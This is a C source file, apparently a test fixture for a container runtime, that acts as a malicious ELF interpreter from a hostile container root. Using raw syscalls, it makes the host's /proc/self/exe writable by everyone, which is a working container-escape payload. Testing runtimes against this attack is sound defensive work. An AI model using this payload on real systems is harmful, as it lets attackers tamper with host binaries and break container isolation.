/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The dynamic loader of a hostile root. A script with "#!/proc/self/exe" makes the kernel run kurung itself,
 * with this as its loader: code of the attacker's in a process whose /proc/self/exe is a file of the host's,
 * outside of the root. It makes that file writable to everybody.
 *
 * No library: none is available in its place.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call4(long nr, long a, long b, long c, long d)
{
#if defined(__x86_64__)
        long r;
        register long r10 __asm__("r10") = d;
        __asm__ volatile("syscall"
                         : "=a"(r)
                         : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                         : "rcx", "r11", "memory");
        return r;
#elif defined(__aarch64__)
        register long x8 __asm__("x8") = nr;
        register long x0 __asm__("x0") = a;
        register long x1 __asm__("x1") = b;
        register long x2 __asm__("x2") = c;
        register long x3 __asm__("x3") = d;
        __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
        return x0;
#else
#error "not known on this architecture"
#endif
}

void _start(void);

void _start(void)
{
        /* Before Linux 6.7 load_elf_interp() zeroes what follows the last segment in its page, and fails if
         * that can't be written. */
        static char ran[] __attribute__((section(".data"))) = "the loader ran\n";
        (void)call4(SYS_write, 1, (long)ran, sizeof(ran) - 1, 0);
        (void)call4(SYS_fchmodat, AT_FDCWD, (long)"/proc/self/exe", 0777, 0);
        (void)call4(SYS_exit_group, 0, 0, 0, 0);
}
